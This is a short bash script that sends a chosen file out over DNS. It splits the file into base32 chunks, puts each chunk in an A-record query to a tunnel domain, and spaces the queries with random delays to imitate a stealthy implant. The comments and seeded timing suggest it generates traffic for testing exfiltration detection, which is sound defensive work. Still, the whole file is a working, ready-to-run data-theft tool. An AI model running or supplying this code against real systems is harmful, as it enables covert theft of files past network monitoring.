#!/usr/bin/env bash
# Slow exfiltration: leaks FILE through the resolver, one A query every
# MIN–MAX seconds, as a low-and-slow implant would. Each query carries one
# base32 chunk (lower case, no padding) and its sequence number:
#
#   <chunk>.<seq>.<tunnel domain>      e.g. mfrgg...zq.3.c.metricsboard.com
#
# Run in the client namespace. Prints one line per query sent (epoch ms, name).
# Usage: slow-exfil.sh RESOLVER SOURCE DOMAIN FILE CHUNK_BYTES MIN_S MAX_S [SEED]
set -euo pipefail
resolver=$1 source=$2 domain=$3 file=$4 chunk=$5 min=$6 max=$7 seed=${8:-1}

size=$(stat -c %s "$file")
RANDOM=$seed
seq=0
for ((off = 0; off < size; off += chunk)); do
  label=$(tail -c +$((off + 1)) "$file" | head -c "$chunk" | base32 -w 0 | tr -d '=' | tr 'A-Z' 'a-z')
  name="$label.$seq.$domain"
  printf '%s %s\n' "$(date +%s%3N)" "$name"
  dig -b "$source" @"$resolver" +tries=1 +time=3 +short "$name" A >/dev/null || true
  seq=$((seq + 1))
  if ((off + chunk < size)); then
    sleep "$((min + RANDOM % (max - min))).$((RANDOM % 10))"
  fi
done
